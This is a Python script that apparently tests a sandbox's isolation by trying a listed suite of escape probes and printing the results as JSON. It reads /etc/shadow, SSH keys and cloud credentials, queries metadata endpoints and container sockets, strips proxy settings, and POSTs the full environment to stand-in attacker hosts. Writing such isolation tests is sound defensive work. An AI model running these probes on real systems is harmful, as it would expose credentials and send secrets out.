"""Runs inside a sandbox and tries each attack of the public format's suites by itself: what came of it, as JSON."""

import json
import os
import socket
import subprocess
import sys
import urllib.request
from pathlib import Path

TIME_S = 3
WEB = {
    "S1": "http://169.254.169.254/latest/meta-data/", "S2": "http://metadata.google.internal/computeMetadata/v1/",
    "S3": "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "S4": "http://127.0.0.1:80/",
    "S5": "http://host.docker.internal:2375/version", "S6": "https://kubernetes.default.svc/api",
    "S7": "http://169.254.169.254/", "S18": "https://attacker-server.example.com/steal",
    "S19": "https://evil-domain.example.com/test", "S22": "http://6b6579.attacker-dns.example.com/",
    "S23": "https://attacker.example.com/env-dump", "D1": "https://www.example.org/", "D2": "https://api.anthropic.com/",
    "D3": "http://example.com:80/", "D14": "https://domain-in-no-list.example/",
}  # fmt: skip
FILES = {
    "S8": "/proc/self/environ", "S9": "/etc/shadow", "S10": "~/.ssh/id_rsa", "S11": "~/.aws/credentials",
    "D4": "/etc/shadow", "D5": "/workspace/../../../../etc/shadow", "D6": "/root/.ssh/id_rsa",
}  # fmt: skip
LINKS = {"S13": "/etc/passwd", "S14": "/etc/shadow", "S15": "/host-root/etc/passwd"}
COMMANDS = {"D7": ["sudo", "-n", "whoami"], "D8": ["docker", "ps"], "D9": ["env"], "S17": ["env"], "S24": ["env", "-0"]}


def fetched(url: str) -> str:
    for name in [name for name in os.environ if "proxy" in name.lower()]:
        del os.environ[name]  # S16
    data = json.dumps(dict(os.environ)).encode() if "attacker" in url else None
    try:
        with urllib.request.urlopen(url, data=data, timeout=TIME_S) as answer:
            return f"answered {answer.status}"
    except OSError as error:
        return f"failed {error}"


def read(path: str) -> str:
    try:
        return Path(path).expanduser().read_text(errors="replace")
    except OSError as error:
        return f"failed {error}"


def linked(name: str, target: str) -> str:
    link = Path(name)
    link.symlink_to(target)
    return read(str(link))


def ran(words: list[str]) -> str:
    try:
        done = subprocess.run(words, capture_output=True, text=True, timeout=TIME_S, check=False)
    except OSError as error:
        return f"failed {error}"
    return done.stdout if done.returncode == 0 else f"failed {done.returncode}"


def engine() -> str:
    for place in ("/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock"):
        try:
            with socket.socket(socket.AF_UNIX) as plug:
                plug.connect(place)
                return "connected"
        except OSError:
            continue
    return "failed"


found = {name: read(path) for name, path in FILES.items()}
found |= {name: linked(f"link-{name}", target) for name, target in LINKS.items()}
found |= {name: ran(words) for name, words in COMMANDS.items()} | {"S12": engine()}
found |= {name: fetched(url) for name, url in WEB.items()}
json.dump(found, sys.stdout)
